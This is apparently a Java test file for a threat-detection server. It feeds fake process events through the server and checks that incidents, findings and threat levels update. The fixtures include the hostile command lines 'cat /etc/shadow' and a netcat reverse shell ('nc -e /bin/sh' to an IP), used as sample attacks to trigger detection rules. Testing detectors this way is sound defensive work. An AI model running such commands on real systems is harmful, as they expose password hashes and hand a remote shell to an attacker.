@@ -1,0 +1,119 @@
+package dev.panoptes.server.detections;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.panoptes.server.TestServer;
+import dev.panoptes.server.TestServer.Answer;
+import dev.panoptes.server.storage.TestPostgres;
+import dev.panoptes.server.storage.TestPostgres.Databases;
+import java.io.IOException;
+import java.nio.file.Path;
+import java.time.Instant;
+import java.time.temporal.ChronoUnit;
+import java.util.List;
+import java.util.Map;
+import java.util.UUID;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.junit.jupiter.api.io.TempDir;
+import tools.jackson.databind.JsonNode;
+
+/** What sensors send becomes findings and incidents in the same transaction, and the level of threat rises and falls. */
+@ExtendWith(TestPostgres.class)
+class DetectionsTest {
+    @TempDir
+    Path directory;
+
+    private static Answer send(TestServer server, String token, String sensor, List<String> events)
+            throws IOException, InterruptedException {
+        String body = "{\"stream\":\"" + UUID.randomUUID() + "\",\"sensor\":\"" + sensor + "\",\"first\":1,\"count\":"
+                + events.size() + ",\"lost\":[]}\n" + String.join("\n", events) + "\n";
+        return server.call(
+                "POST",
+                "/api/v1/telemetry",
+                body,
+                Map.of("Authorization", "Bearer " + token, "Content-Type", "application/x-ndjson"));
+    }
+
+    private static String process(String id, Instant at, String user, String line) {
+        return "{\"@timestamp\":\"" + at + "\",\"event\":{\"id\":\"" + id
+                + "\",\"action\":\"process_started\",\"dataset\":\"panoptes.proc\"},\"host\":{\"name\":\"web-1\"},"
+                + "\"user\":{\"name\":\"" + user + "\"},\"process\":{\"executable\":\"/usr/bin/"
+                + line.substring(0, line.indexOf(' ')) + "\",\"command_line\":\"" + line + "\"}}";
+    }
+
+    @Test
+    void anAttackBecomesOneIncidentThatIsAcknowledgedAndResolved(Databases databases)
+            throws IOException, InterruptedException {
+        try (TestServer server = TestServer.start(databases, directory, Map.of("observe.local", "false"))) {
+            assertThat(server.get("/api/v1/threat").json().path("level").asString())
+                    .isEqualTo("UNKNOWN");
+            String token = server.call(
+                            "POST", "/api/v1/tokens", "{\"name\":\"o\",\"role\":\"observer\",\"host\":\"web-1\"}")
+                    .json()
+                    .path("token")
+                    .asString();
+            Instant now = Instant.now().truncatedTo(ChronoUnit.SECONDS);
+            assertThat(send(
+                                    server,
+                                    token,
+                                    "proc",
+                                    List.of(
+                                            process("p1", now.minusSeconds(60), "alice", "ls -l"),
+                                            process("p2", now.minusSeconds(50), "alice", "cat /etc/shadow"),
+                                            process("p3", now.minusSeconds(40), "alice", "whoami "),
+                                            process(
+                                                    "p4",
+                                                    now.minusSeconds(30),
+                                                    "alice",
+                                                    "nc -e /bin/sh 192.0.2.7 4444")))
+                            .status())
+                    .isEqualTo(200);
+            JsonNode list = server.get("/api/v1/incidents").json().path("items");
+            assertThat(list.size()).isEqualTo(1);
+            String id = list.get(0).path("id").asString();
+            assertThat(list.get(0).path("state").asString()).isEqualTo("open");
+            assertThat(list.get(0).path("host").asString()).isEqualTo("web-1");
+            JsonNode details = server.get("/api/v1/incidents/" + id).json().path("details");
+            assertThat(details.path("events").toString()).contains("p2", "p4");
+            assertThat(details.path("chain").toString()).contains("T1003.008", "T1059.004");
+            assertThat(server.get("/api/v1/threat").json().path("level").asString())
+                    .isIn("HIGH", "CRITICAL", "UNDER_ATTACK");
+            assertThat(server.get("/api/v1/findings").json().path("items").toString())
+                    .contains("shadow_file_read", "reverse_shell_netcat");
+            JsonNode health = server.get("/api/v1/health/system").json();
+            assertThat(health.path("threat_level").asString()).isNotEqualTo("UNKNOWN");
+            assertThat(health.path("events_last_24h").asLong()).isEqualTo(4);
+
+            assertThat(server.call("PATCH", "/api/v1/incidents/" + id, "{\"state\":\"resolved\",\"note\":\"a test\"}")
+                            .status())
+                    .isEqualTo(200);
+            assertThat(server.get("/api/v1/threat").json().path("level").asString())
+                    .isEqualTo("BENIGN");
+            // It goes on: the incident opens again.
+            send(server, token, "proc", List.of(process("p5", now, "alice", "cat /etc/shadow")));
+            assertThat(server.get("/api/v1/incidents/" + id)
+                            .json()
+                            .path("state")
+                            .asString())
+                    .isEqualTo("open");
+        }
+    }
+
+    @Test
+    void rulesAndCoverageAreTold(Databases databases) throws IOException, InterruptedException {
+        try (TestServer server = TestServer.start(databases, directory, Map.of("observe.local", "false"))) {
+            JsonNode rules = server.get("/api/v1/rules").json();
+            assertThat(rules.path("items").size()).isGreaterThan(200);
+            assertThat(rules.path("broken").size()).isZero();
+            assertThat(server.get("/api/v1/rules/reverse_shell_netcat")
+                            .json()
+                            .path("level")
+                            .asString())
+                    .isEqualTo("high");
+            assertThat(server.get("/api/v1/rules/nothing").status()).isEqualTo(404);
+            assertThat(server.get("/api/v1/attack").json().path("items").toString())
+                    .contains("T1059.004", "T1562.001", "T1685");
+        }
+    }
+}
